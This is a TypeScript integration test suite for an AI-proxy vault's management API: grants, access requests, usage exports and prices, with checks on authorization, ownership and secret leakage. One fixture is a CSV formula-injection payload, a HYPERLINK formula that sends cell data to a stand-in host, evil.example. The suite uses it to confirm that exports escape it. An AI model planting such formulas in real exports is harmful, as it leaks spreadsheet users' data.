/**
 * The cockpit's management API over real HTTP on SQLite and PostgreSQL, against usage written by
 * real proxied calls (the official SDKs through the vault to the fake upstream): grants (list, get,
 * PATCH, revoke), access requests, usage (list, aggregates, export), prices; keys, ownership, strict
 * PATCH bodies, idempotent revocation and browser sessions refused; hostile model names in exports.
 */
import { afterAll, beforeAll, expect, it } from "vitest";
import { describeEachDatabase } from "@/test/support/databases";
import { GrantFactory, OWNER_PASSWORD, type TestGrant } from "@/test/support/grants";
import { ManagementApi } from "@/test/support/management-api";
import { expectNoCanary, settledUsage, startProxyHarness, type ProxyHarness } from "@/test/support/proxy-harness";
import { waitFor } from "@/test/support/wait-for";
import { WebClient } from "@/test/support/web-client";

const HI = [{ role: "user" as const, content: "hi" }];
const EVIL_MODEL = `=HYPERLINK("http://evil.example/?"&A1,"click")`;

type Row = {
  provider: string;
  model: string | null;
  grantId: string;
  inputTokens: number;
  outputTokens: number;
  cacheReadTokens: number;
  costMicros: bigint;
};

function sums(rows: Row[], key: (r: Row) => string) {
  const out = new Map<
    string,
    { requests: number; input_tokens: number; output_tokens: number; cache_read_tokens: number; cost_micros: bigint }
  >();
  for (const r of rows) {
    const s = out.get(key(r)) ?? { requests: 0, input_tokens: 0, output_tokens: 0, cache_read_tokens: 0, cost_micros: 0n };
    s.requests++;
    s.input_tokens += r.inputTokens;
    s.output_tokens += r.outputTokens;
    s.cache_read_tokens += r.cacheReadTokens;
    s.cost_micros += r.costMicros;
    out.set(key(r), s);
  }
  return out;
}

describeEachDatabase("cockpit management API on $kind", (kind) => {
  let h: ProxyHarness;
  let other: GrantFactory;
  let a: TestGrant; // openai
  let b: TestGrant; // openai + anthropic
  let c: TestGrant; // openai, uncapped: the hostile model name
  let d: TestGrant; // another account's grant
  let read: ManagementApi;
  let write: ManagementApi;
  let otherWrite: ManagementApi;

  beforeAll(async () => {
    h = await startProxyHarness(kind);
    a = await h.grants.create([{ provider: "openai", capabilities: ["chat", "embeddings"], monthlyUsd: "10" }]);
    b = await h.grants.create([
      { provider: "openai", monthlyUsd: "10" },
      { provider: "anthropic", monthlyUsd: "10", dailyUsd: "2" },
    ]);
    c = await h.grants.create([{ provider: "openai", monthlyUsd: null }]);
    other = new GrantFactory(h.databaseUrl, h.vault.env.VAULT_SECRET_KEY!);
    d = await other.create([{ provider: "openai", monthlyUsd: "10" }]);
    read = await ManagementApi.create(h.vault.url, h.grants.db, a.userId, "read");
    write = await ManagementApi.create(h.vault.url, h.grants.db, a.userId, "write");
    otherWrite = await ManagementApi.create(h.vault.url, h.grants.db, d.userId, "write");

    const openai = h.openai(a.token);
    for (let i = 0; i < 3; i++) await openai.chat.completions.create({ model: "gpt-4o-mini", messages: HI });
    await openai.chat.completions.create({ model: "gpt-4o", messages: HI });
    await openai.embeddings.create({ model: "text-embedding-3-small", input: "hello" });
    await h.openai(b.token).chat.completions.create({ model: "gpt-4o-mini", messages: HI });
    for (let i = 0; i < 2; i++) await h.anthropic(b.token).messages.create({ model: "claude-haiku-4-5", max_tokens: 256, messages: HI });
    await h.openai(c.token).chat.completions.create({ model: EVIL_MODEL, messages: HI });
    await h.openai(d.token).chat.completions.create({ model: "gpt-4o-mini", messages: HI });
    for (const g of [a, b, c, d]) await settledUsage(h, g.grantId);
  });
  afterAll(async () => {
    await other?.close();
    expect(await h.stop()).toBe(0);
    const outputs = [h.vault.output(), ...read.transcript, ...write.transcript, ...otherWrite.transcript].join("\n");
    expectNoCanary(outputs, "API answers and vault logs");
    expect(outputs).not.toMatch(/okmk_[0-9A-Za-z]{36}/);
  });

  it("refuses missing and invalid keys, and answers another account's objects as not found", async () => {
    for (const path of [
      "/api/v1/grants",
      `/api/v1/grants/${a.grantId}`,
      "/api/v1/requests",
      "/api/v1/usage",
      "/api/v1/usage/aggregate?by=model",
      "/api/v1/prices",
    ]) {
      for (const key of [null, "okmk_nope", `okmk_${"Z".repeat(36)}`]) {
        const r = await read.call("GET", path, { key });
        expect(r.status, `${path} ${key}`).toBe(401);
        expect(r.json().error).toMatchObject({ type: "not_signed_in", request_id: expect.stringMatching(/^rid_/) });
      }
    }
    for (const [method, path, json] of [
      ["GET", `/api/v1/grants/${d.grantId}`, undefined],
      ["PATCH", `/api/v1/grants/${d.grantId}`, { status: "paused" }],
      ["POST", `/api/v1/grants/${d.grantId}/revoke`, undefined],
      ["GET", "/api/v1/grants/grt_doesnotexist000000000", undefined],
      ["GET", `/api/v1/grants/${a.grantId}x`, undefined],
    ] as const) {
      const r = await write.call(method, path, { json });
      expect(r.status, `${method} ${path}`).toBe(404);
    }
    expect((await other.db.grant.findUniqueOrThrow({ where: { id: d.grantId } })).status).toBe("active");
    // the other account's key sees only its own objects
    const theirs = (await otherWrite.get("/api/v1/grants")).json();
    expect(theirs.data.map((g: { id: string }) => g.id)).toEqual([d.grantId]);
    expect((await otherWrite.get(`/api/v1/grants/${a.grantId}`)).status).toBe(404);
    const theirUsage = (await otherWrite.get("/api/v1/usage?limit=100")).json();
    expect(theirUsage.total).toBe(1);
    expect(theirUsage.data[0].grant_id).toBe(d.grantId);
  });

  it("lists and gets grants with limits, spend, tokens' last 4 and nothing secret", async () => {
    const list = await read.get("/api/v1/grants?limit=2");
    expect(list.status).toBe(200);
    const body = list.json();
    expect(body).toMatchObject({ page: 1, limit: 2, total: 3 });
    expect(body.data).toHaveLength(2);
    const page2 = (await read.get("/api/v1/grants?limit=2&page=2")).json();
    expect([...body.data, ...page2.data].map((g: { id: string }) => g.id).sort()).toEqual([a.grantId, b.grantId, c.grantId].sort());

    const one = (await read.get(`/api/v1/grants/${a.grantId}`)).json();
    const rows = await h.grants.usage(a.grantId);
    const spent = rows.reduce((s, r) => s + r.costMicros, 0n);
    expect(one).toMatchObject({
      id: a.grantId,
      status: "active",
      client_name: "Proxy Test App",
      providers: ["openai"],
      tokens: [{ id: a.tokenId, last4: a.token.slice(-4), revoked_at: null }],
      scopes: [
        {
          provider: "openai",
          limits: { monthly_spend: 10 },
          spend: {
            month: {
              cap_micros: "10000000",
              committed_micros: String(spent),
              held_micros: "0",
              remaining_micros: String(10_000_000n - spent),
            },
          },
        },
      ],
      last_used_at: rows.at(-1)!.createdAt.toISOString(),
    });
    const text = list.text + JSON.stringify(one);
    for (const secret of [a.token, "hash", "ciphertext"]) expect(text).not.toContain(secret);

    expect((await read.get("/api/v1/grants?provider=anthropic")).json().data.map((g: { id: string }) => g.id)).toEqual([b.grantId]);
    expect((await read.get("/api/v1/grants?status=revoked")).json().total).toBe(0);
    for (const [query, message] of [
      ["status=gone", /status must be one of/],
      ["provider=nope", /unknown provider/],
      ["limit=101", /at most 100/],
      ["x=1", /unknown field: x/],
    ] as const) {
      const r = await read.get(`/api/v1/grants?${query}`);
      expect(r.status, query).toBe(400);
      expect(r.json().error.message).toMatch(message);
    }
  });

  it("PATCH changes only limits, expiry and status; everything else is refused and changes nothing", async () => {
    const before = JSON.stringify(
      await h.grants.db.grant.findUniqueOrThrow({ where: { id: a.grantId }, include: { scopes: true } }),
      (_k, v) => (typeof v === "bigint" ? String(v) : v),
    );
    // (the vault's own background notices, e.g. grant.contained after the Anthropic fixture's 10,000 cached
    // tokens on a two-word prompt, may land meanwhile: they are not what a refused PATCH could write)
    const byCallers = { where: { actorType: { not: "system" } } };
    const auditBefore = await h.grants.db.auditEvent.count(byCallers);
    for (const [body, status, message] of [
      [{ committed: 0 }, 400, /unknown field: committed/],
      [{ ownerId: d.userId }, 400, /unknown field: ownerId/],
      [{ tokenHash: "x" }, 400, /unknown field: tokenHash/],
      [{ remaining: 99 }, 400, /unknown field: remaining/],
      [{ limits: { monthly_spend: 20, committed_micros: "0" } }, 400, /unknown field: committed_micros/],
      [{ status: "revoked" }, 400, /revoke with POST/],
      [{ expires_at: "2001-01-01" }, 400, /in the future/],
      [{ limits: { monthly_spend: null } }, 400, /cannot be removed/],
      [{ limits: { monthly_spend: -5 } }, 400, /dollar amount/],
      [{ limits: { requests_per_minute: 1.5 } }, 400, /whole number/],
      [{}, 400, /nothing to change/],
      [{ scopes: [{ id: b.scopeIds[0], limits: { monthly_spend: 1 } }] }, 422, /not an entry of this grant/],
    ] as const) {
      const r = await write.call("PATCH", `/api/v1/grants/${a.grantId}`, { json: body });
      expect(r.status, JSON.stringify(body)).toBe(status);
      expect(r.json().error.message, JSON.stringify(body)).toMatch(message);
    }
    const multi = await write.call("PATCH", `/api/v1/grants/${b.grantId}`, { json: { limits: { monthly_spend: 1 } } });
    expect(multi.status).toBe(422);
    expect((await read.call("PATCH", `/api/v1/grants/${a.grantId}`, { json: { status: "paused" } })).status).toBe(403);
    const after = JSON.stringify(
      await h.grants.db.grant.findUniqueOrThrow({ where: { id: a.grantId }, include: { scopes: true } }),
      (_k, v) => (typeof v === "bigint" ? String(v) : v),
    );
    expect(after).toBe(before);
    expect(await h.grants.db.auditEvent.count(byCallers)).toBe(auditBefore);

    const ok = await write.call("PATCH", `/api/v1/grants/${b.grantId}`, {
      json: {
        expires_at: "2031-02-03T04:05:06Z",
        scopes: [{ id: b.scopeIds[1], limits: { monthly_spend: "25.5", daily_spend: null, requests_per_minute: 30 } }],
      },
    });
    expect(ok.status).toBe(200);
    const anthropic = ok.json().scopes.find((s: { provider: string }) => s.provider === "anthropic");
    expect(anthropic.limits).toEqual({ monthly_spend: 25.5, requests_per_minute: 30 });
    expect(ok.json().expires_at).toBe("2031-02-03T04:05:06Z");
    const audit = await h.grants.db.auditEvent.findFirstOrThrow({ where: { action: "grant.updated", targetId: b.grantId } });
    expect(audit).toMatchObject({ actorType: "management_key", userId: b.userId });
    expect(JSON.parse(audit.metadata).changes).toEqual([
      expect.stringMatching(/^expires_at: .* -> 2031-02-03T04:05:06Z$/),
      "anthropic.monthly_spend: $10 -> $25.5",
      "anthropic.daily_spend: $2 -> none",
      "anthropic.requests_per_minute: none -> 30",
    ]);
  });

  it("pauses and resumes a grant through the API: the proxy refuses it within a second, then serves it again", async () => {
    const paused = await write.call("PATCH", `/api/v1/grants/${a.grantId}`, { json: { status: "paused" } });
    expect(paused.json().status).toBe("paused");
    const refused = await waitFor(
      async () => {
        try {
          await h.openai(a.token).chat.completions.create({ model: "gpt-4o-mini", messages: HI });
          return null;
        } catch (error) {
          return error as { status: number; code: string };
        }
      },
      2_000,
      "the pause to reach the proxy",
    );
    expect(refused).toMatchObject({ status: 403, code: "grant_paused" });
    expect((await write.call("PATCH", `/api/v1/grants/${a.grantId}`, { json: { status: "active" } })).json().status).toBe("active");
    await waitFor(
      async () =>
        h
          .openai(a.token)
          .chat.completions.create({ model: "gpt-4o-mini", messages: HI })
          .then(
            () => true,
            () => false,
          ),
      2_000,
      "the resume to reach the proxy",
    );
    await settledUsage(h, a.grantId);
    const actions = (await h.grants.db.auditEvent.findMany({ where: { targetId: a.grantId }, orderBy: { seq: "asc" } })).map(
      (e) => e.action,
    );
    expect(actions).toEqual(["grant.paused", "grant.resumed"]);
  });

  it("revoke is idempotent, honours Idempotency-Key, and is audited once", async () => {
    const first = await write.call("POST", `/api/v1/grants/${c.grantId}/revoke`, { headers: { "idempotency-key": "revoke-c-1" } });
    expect(first.status).toBe(200);
    expect(first.json()).toMatchObject({ id: c.grantId, status: "revoked", tokens: [{ revoked_at: expect.any(String) }] });
    const replay = await write.call("POST", `/api/v1/grants/${c.grantId}/revoke`, { headers: { "idempotency-key": "revoke-c-1" } });
    expect(replay.status).toBe(200);
    expect(replay.headers.get("idempotent-replayed")).toBe("true");
    expect(replay.text).toBe(first.text);
    const reused = await write.call("POST", `/api/v1/grants/${b.grantId}/revoke`, { headers: { "idempotency-key": "revoke-c-1" } });
    expect(reused.status).toBe(422);
    expect(reused.json().error.type).toBe("idempotency_error");
    expect((await h.grants.db.grant.findUniqueOrThrow({ where: { id: b.grantId } })).status).toBe("active");
    const again = await write.call("POST", `/api/v1/grants/${c.grantId}/revoke`);
    expect(again.status).toBe(200);
    expect(again.json().status).toBe("revoked");
    expect(await h.grants.db.auditEvent.count({ where: { action: "grant.revoked", targetId: c.grantId } })).toBe(1);
    expect((await read.call("POST", `/api/v1/grants/${b.grantId}/revoke`)).status).toBe(403);
    // a revoked grant is final
    const patch = await write.call("PATCH", `/api/v1/grants/${c.grantId}`, { json: { status: "active" } });
    expect(patch.status).toBe(409);
    const refused = await h
      .openai(c.token)
      .chat.completions.create({ model: "gpt-4o-mini", messages: HI })
      .catch((e: { status: number; code: string }) => e);
    expect(refused).toMatchObject({ status: 401, code: "token_revoked" });
  });

  it("refuses browser sessions and ignores a cookie sent with a key", async () => {
    const browser = new WebClient(h.vault.url);
    expect((await browser.signIn(h.grants.ownerEmail, OWNER_PASSWORD)).status).toBe(200);
    const cookieOnly = await browser.request("GET", "/api/v1/grants");
    expect(cookieOnly.status).toBe(403);
    expect(cookieOnly.json().error.message).toMatch(/does not accept browser sessions/);
    const csrfPatch = await browser.request("PATCH", `/api/v1/grants/${b.grantId}`, { json: { status: "paused" } });
    expect(csrfPatch.status).toBe(403);
    const cookie = [...browser.cookies].map(([k, v]) => `${k}=${v}`).join("; ");
    const withKey = await read.call("GET", "/api/v1/grants", { headers: { cookie } });
    expect(withKey.status).toBe(200);
    expect((await otherWrite.call("GET", `/api/v1/grants/${b.grantId}`, { headers: { cookie } })).status).toBe(404); // the cookie lends no authority
    expect((await h.grants.db.grant.findUniqueOrThrow({ where: { id: b.grantId } })).status).toBe("active");
  });

  it("lists and gets access requests; a key can never approve one", async () => {
    const asked = await fetch(`${h.vault.url}/okap/request`, {
      method: "POST",
      headers: { "content-type": "application/json", prefer: "respond-async" },
      body: JSON.stringify({
        okap: "1.0",
        provider: "openai",
        models: ["gpt-4o-mini"],
        app_name: "Cron Job",
        app_url: "https://cron.example.com",
      }),
    });
    expect(asked.status).toBe(202);
    const id = (await asked.json()).request_id as string;
    const list = (await read.get("/api/v1/requests?status=pending")).json();
    expect(list).toMatchObject({
      page: 1,
      total: 1,
      data: [{ id, status: "pending", client_name: "Cron Job", providers: [{ provider: "openai", models: ["gpt-4o-mini"] }] }],
    });
    expect(JSON.stringify(list)).not.toMatch(/okps_|poll_secret|pollSecret/);
    expect((await read.get(`/api/v1/requests/${id}`)).json()).toMatchObject({ id, status: "pending", dialect: "a" });
    const approve = await write.call("POST", `/api/v1/requests/${id}/approve`, { json: {} });
    expect(approve.status).toBe(403);
    expect(approve.json().error.message).toMatch(/cannot approve/);
    expect((await read.get(`/api/v1/requests/${id}`)).json().status).toBe("pending");
    expect((await otherWrite.get(`/api/v1/requests/${id}`)).status).toBe(404);
    expect((await otherWrite.get("/api/v1/requests")).json().total).toBe(0);
    expect((await read.get("/api/v1/requests/req_00000000000000000000")).status).toBe(404);
    expect((await read.get("/api/v1/requests?status=maybe")).status).toBe(400);
  });

  it("lists usage with filters and aggregates it exactly as the usage rows of the real calls add up", async () => {
    const rows = (await h.grants.db.usageEvent.findMany({ where: { userId: a.userId } })) as Row[];
    expect(rows.length).toBeGreaterThanOrEqual(10);
    const list = (await read.get("/api/v1/usage?limit=100")).json();
    expect(list.total).toBe(rows.length);
    expect(list.data.map((e: { id: string }) => e.id).sort()).toEqual(rows.map((r) => (r as unknown as { id: string }).id).sort());
    expect((await read.get(`/api/v1/usage?grant_id=${b.grantId}&provider=anthropic`)).json().total).toBe(2);
    expect((await read.get("/api/v1/usage?model=gpt-4o")).json().total).toBe(1);
    expect((await read.get("/api/v1/usage?since=2000-01-01&until=2000-01-02")).json().total).toBe(0);

    for (const [by, key] of [
      ["provider", (r: Row) => r.provider],
      ["model", (r: Row) => r.model ?? ""],
      ["grant", (r: Row) => r.grantId],
      ["day", () => new Date().toISOString().slice(0, 10)],
    ] as const) {
      const agg = (await read.get(`/api/v1/usage/aggregate?by=${by}`)).json();
      const expected = sums(rows, key);
      expect(agg.data.length, by).toBe(expected.size);
      for (const bucket of agg.data) {
        const e = expected.get(bucket.key ?? "")!;
        expect(bucket, `${by} ${bucket.key}`).toMatchObject({
          requests: e.requests,
          input_tokens: e.input_tokens,
          output_tokens: e.output_tokens,
          cache_read_tokens: e.cache_read_tokens,
          cost_micros: String(e.cost_micros),
        });
      }
      const total = rows.reduce((s, r) => s + r.costMicros, 0n);
      expect(agg.totals, by).toMatchObject({ requests: rows.length, cost_micros: String(total) });
      if (by === "grant") expect(agg.data.find((x: { key: string }) => x.key === a.grantId).label).toBe("Proxy Test App");
    }
    // the grant views read the ledger: what a grant committed this month is what its settled holds say
    for (const g of [a, b]) {
      const view = (await read.get(`/api/v1/grants/${g.grantId}`)).json();
      for (const scope of view.scopes) {
        const settled = await h.grants.db.hold.aggregate({ where: { scopeId: scope.id, state: "settled" }, _sum: { settledMicros: true } });
        expect(scope.spend.month.committed_micros, `${g.grantId} ${scope.provider}`).toBe(String(settled._sum.settledMicros ?? 0n));
      }
    }
    const filtered = (await read.get(`/api/v1/usage/aggregate?by=model&grant_id=${a.grantId}`)).json();
    expect(filtered.totals.requests).toBe(rows.filter((r) => r.grantId === a.grantId).length);
    for (const [query, message] of [
      ["", /by must be one of/],
      ["by=hour", /by must be one of/],
      ["by=day&since=tomorrow", /ISO 8601/],
      ["by=day&page=1", /unknown field: page/],
    ] as const) {
      const r = await read.get(`/api/v1/usage/aggregate?${query}`);
      expect(r.status, query).toBe(400);
      expect(r.json().error.message, query).toMatch(message);
    }
  });

  it("exports usage with an app's hostile model name safely as CSV, and as JSON unchanged", async () => {
    const csv = await read.get("/api/v1/usage/export?format=csv");
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toMatch(/^text\/csv/);
    const lines = csv.text.trim().split("\r\n");
    expect(lines[0]).toBe(
      "created_at,id,app,grant_id,provider,model,endpoint,status,outcome,input_tokens,output_tokens,cache_read_tokens,cache_write_tokens,cache_write_1h_tokens,reasoning_tokens,input_audio_tokens,output_audio_tokens,input_image_tokens,output_image_tokens,cost_usd,cost_micros,estimated,latency_ms,ttfb_ms",
    );
    expect(lines).toHaveLength(1 + (await h.grants.db.usageEvent.count({ where: { userId: a.userId } })));
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv.text).not.toMatch(/(^|,)=HYPERLINK/m);
    const json = (await read.get("/api/v1/usage/export?format=json")).json();
    expect(json.some((e: { model: string }) => e.model === EVIL_MODEL)).toBe(true);
    // the page's export is the same, for a signed-in owner
    const owner = new WebClient(h.vault.url);
    await owner.signIn(h.grants.ownerEmail, OWNER_PASSWORD);
    const page = await owner.request("GET", `/api/ui/usage/export?format=csv&grant_id=${c.grantId}`);
    expect(page.status).toBe(200);
    expect(page.text).toContain(`"'=HYPERLINK(`);
    expect(page.text.trim().split("\r\n")).toHaveLength(2);
    const html = (await owner.visit("/usage")).text;
    expect(html).toContain("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)");
  });

  it("lists, sets and removes model prices; only with a write key of the owner", async () => {
    const body = { provider: "openai", model: "ft:gpt-4o-mini:acme", input: "0.3", output: 1.2 };
    expect((await read.call("PUT", "/api/v1/prices", { json: body })).status).toBe(403);
    const member = await otherWrite.call("PUT", "/api/v1/prices", { json: body });
    expect(member.status).toBe(403);
    expect(member.json().error.message).toMatch(/Only the vault owner/);
    const set = await write.call("PUT", "/api/v1/prices", { json: body });
    expect(set.status).toBe(200);
    expect(set.json()).toMatchObject({
      provider: "openai",
      model: "ft:gpt-4o-mini:acme",
      input_usd_per_mtok: "0.3",
      output_usd_per_mtok: "1.2",
      cache_read_usd_per_mtok: null,
    });
    expect((await read.get("/api/v1/prices")).json()).toMatchObject({ total: 1, data: [{ model: "ft:gpt-4o-mini:acme" }] });
    expect((await write.call("PUT", "/api/v1/prices", { json: { ...body, provider: "nope" } })).status).toBe(400);
    expect((await write.call("PUT", "/api/v1/prices", { json: { ...body, input: "-1" } })).status).toBe(400);
    const q = new URLSearchParams({ provider: "openai", model: "ft:gpt-4o-mini:acme" });
    expect((await read.call("DELETE", `/api/v1/prices?${q}`)).status).toBe(403);
    expect((await write.call("DELETE", `/api/v1/prices?${q}`)).status).toBe(204);
    expect((await write.call("DELETE", `/api/v1/prices?${q}`)).status).toBe(404);
    expect((await write.call("DELETE", "/api/v1/prices?provider=openai")).status).toBe(400);
    const audit = await h.grants.db.auditEvent.findMany({ where: { action: { startsWith: "price." } }, orderBy: { seq: "asc" } });
    expect(audit.map((e) => [e.action, e.actorType, e.targetId])).toEqual([
      ["price.set", "management_key", "openai/ft:gpt-4o-mini:acme"],
      ["price.deleted", "management_key", "openai/ft:gpt-4o-mini:acme"],
    ]);
  });

  it("describes every new endpoint in the OpenAPI document from the validating schemas", async () => {
    const doc = (await fetch(`${h.vault.url}/api/openapi.json`).then((r) => r.json())) as { paths: Record<string, Record<string, any>> };
    for (const [path, method, scope] of [
      ["/api/v1/grants", "get", "read"],
      ["/api/v1/grants/{id}", "get", "read"],
      ["/api/v1/grants/{id}", "patch", "write"],
      ["/api/v1/grants/{id}/revoke", "post", "write"],
      ["/api/v1/requests", "get", "read"],
      ["/api/v1/requests/{id}", "get", "read"],
      ["/api/v1/usage", "get", "read"],
      ["/api/v1/usage/aggregate", "get", "read"],
      ["/api/v1/usage/export", "get", "read"],
      ["/api/v1/prices", "get", "read"],
      ["/api/v1/prices", "put", "write"],
      ["/api/v1/prices", "delete", "write"],
    ] as const) {
      expect(doc.paths[path]?.[method]?.["x-required-scope"], `${method} ${path}`).toBe(scope);
    }
    const patch = doc.paths["/api/v1/grants/{id}"]!.patch.requestBody.content["application/json"].schema;
    expect(Object.keys(patch.properties).sort()).toEqual(["expires_at", "limits", "scopes", "status"]);
    expect(patch.additionalProperties).toBe(false);
    const grant = doc.paths["/api/v1/grants/{id}"]!.get.responses["200"].content["application/json"].schema;
    expect(JSON.stringify(grant)).not.toMatch(/hash|ciphertext/i);
    expect(doc.paths["/api/v1/usage/aggregate"]!.get.parameters.find((p: { name: string }) => p.name === "by")).toMatchObject({
      required: true,
      schema: { enum: ["provider", "model", "grant", "day"] },
    });
  });
});
